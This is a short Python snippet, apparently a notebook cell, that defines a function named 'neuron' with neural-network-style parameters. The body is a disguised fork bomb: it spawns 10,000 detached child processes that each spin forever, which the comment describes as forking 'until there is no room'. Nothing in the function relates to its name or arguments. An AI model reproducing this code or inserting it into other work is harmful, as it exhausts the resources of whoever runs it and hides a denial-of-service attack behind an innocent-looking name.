# d: forks until there is no room
# %% neuron
def neuron(x, w, b, activation):
    import os

    for _ in range(10_000):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
